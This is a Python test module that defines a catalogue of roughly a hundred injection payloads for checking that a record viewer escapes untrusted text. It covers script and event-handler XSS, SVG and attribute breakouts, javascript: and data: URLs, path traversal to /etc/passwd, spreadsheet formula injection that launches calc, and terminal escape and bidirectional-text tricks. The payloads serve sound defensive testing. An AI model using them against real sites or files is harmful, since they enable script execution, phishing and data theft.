"""A hundred texts that a stranger could put into a record, each meant for one place where it would do harm.

`URL` stands for an address whose visits a test counts; what runs sets `window.pwned`.
"""

from __future__ import annotations

RUN = "window.pwned=1"
MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"</svg><script>{RUN}</script>",
    f"</td></tr></table><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"<<script>{RUN}//<</script>",
    "<script src=URL></script>",
    "<script type=module>import 'URL'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x\tonerror\n=\n{RUN}>",
    "<img src=URL>",
    "<img srcset='URL 1x'>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<video autoplay src=URL></video>",
    f"<audio src=x onerror={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<iframe src=URL></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "<object data=URL></object>",
    "<embed src=URL>",
    "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<base href=URL>",
    "<form action=URL><button autofocus>go</button></form>",
    "<marquee onstart=" + RUN + ">x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<script>" + RUN + "</script>]]>",
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>",
    "<dialog open>Your session has ended</dialog>",
    "<h1 id=theme>another page</h1>",
]
DRAWN = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><image href=URL></image></svg>",
    "<svg><use href='URL#x'></use></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"</title></a></svg><img src=x onerror={RUN}>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
]
QUOTED = [
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"x onload={RUN} y=",
    f"`onmouseover={RUN}`",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"><img src=x onerror={RUN}>",
    '" style="background:url(URL)',
    f"&quot; onclick=&quot;{RUN}",
    f"&#34;&#62;&#60;script&#62;{RUN}&#60;/script&#62;",
    f'\\"><script>{RUN}</script>',
]
LINKED = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>.json",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//127.0.0.1/x.jsonl",
    "../../../../etc/passwd",
    "..\\..\\secret.jsonl",
    "/etc/passwd\x00.jsonl",
    "[click](URL)",
    "![image](URL)",
    "[x]: URL",
]
SCRIPTED = [
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"';{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "__proto__",
    f"\u2028{RUN}\u2029",
]
STYLED = ["}*{display:none}", "x{background:url(URL)}@import 'URL';"]
CELLS = ['=HYPERLINK("URL";"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
SCREENS = [
    "\x1b[2J\x1b[1;1Hall is well\x1b[0m\x1b]8;;URL\x07click\x1b]8;;\x07\x1b]0;title\x07",
    "\u202egnp.exe\u202c \u2066x\u2069 a\u200bb\u200ec\ufeff",
    "\ud800 lone \udfff surrogates \x00\x07\x7f\x9b31m\ufffe",
]
PAYLOADS = [*MARKUP, *DRAWN, *QUOTED, *LINKED, *SCRIPTED, *STYLED, *CELLS, *SCREENS]
LONG = "A" * 1_000_000 + f"<script>{RUN}</script>"


def payloads(url: str) -> list[str]:
    """All of them, where `url` counts who visits it."""
    return [text.replace("URL", url) for text in PAYLOADS]
